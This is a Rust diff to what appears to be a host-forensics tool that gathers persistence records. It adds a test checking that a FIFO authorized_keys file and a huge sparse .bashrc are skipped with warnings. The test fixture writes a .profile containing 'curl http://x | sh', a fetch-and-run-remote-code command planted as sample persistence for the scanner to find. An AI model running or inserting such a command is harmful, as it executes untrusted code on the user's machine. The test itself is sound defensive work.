@@ -605,9 +605,8 @@ fn shell_profiles(hfs: &HostFs, homes: &[Home]) -> Vec<PersistenceRecord> {
     }
     let mut rows = Vec::new();
     for (path, user) in files {
-        if !hfs.metadata(&path).is_ok_and(|m| m.is_file()) {
-            continue;
-        }
+        // No type check here: the read refuses FIFOs and devices itself, on the opened
+        // descriptor, and says so in the warnings.
         let Ok(text) = hfs.read_to_string(&path) else {
             continue;
         };
@@ -1110,5 +1109,54 @@ mod tests {
         assert_eq!(tasks[0].schedule, "@daily");
         assert_eq!(tasks[0].command.as_deref(), Some("/a b"));
         assert_eq!(tasks[0].user.as_deref(), Some("bob"));
+    }
+
+    /// A hostile home: a FIFO for authorized_keys and a 30 GiB sparse .bashrc. Read
+    /// naively, the first blocks forever and the second fills memory.
+    #[test]
+    fn persistence_skips_hostile_files_with_warnings() {
+        use std::os::unix::ffi::OsStrExt;
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        write(
+            root,
+            "/etc/passwd",
+            "root:x:0:0:root:/root:/bin/bash\nmallory:x:1000:1000::/home/mallory:/bin/sh\n",
+        );
+        write(root, "/home/mallory/.profile", "curl http://x | sh\n");
+        std::fs::create_dir_all(root.join("home/mallory/.ssh")).unwrap();
+        let fifo = root.join("home/mallory/.ssh/authorized_keys");
+        let c = std::ffi::CString::new(fifo.as_os_str().as_bytes()).unwrap();
+        // SAFETY: a valid NUL-terminated path.
+        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
+        std::fs::File::create(root.join("home/mallory/.bashrc"))
+            .unwrap()
+            .set_len(30 << 30)
+            .unwrap();
+        let started = std::time::Instant::now();
+        let result = run(&ctx(root), "persistence", &[]).unwrap();
+        assert!(started.elapsed() < std::time::Duration::from_secs(5));
+        assert!(
+            result.warnings.contains(
+                &"skipped /home/mallory/.ssh/authorized_keys is a FIFO; not read".to_owned()
+            ),
+            "{:?}",
+            result.warnings
+        );
+        assert!(
+            result.warnings.iter().any(|w| w
+                == "skipped /home/mallory/.bashrc is 30 GiB, more than the 4 MiB read of such files; not read"),
+            "{:?}",
+            result.warnings
+        );
+        // The rest is still read.
+        assert!(
+            result
+                .records
+                .iter()
+                .any(|r| r["location"] == "/home/mallory/.profile"),
+            "{:?}",
+            result.records
+        );
     }
 }
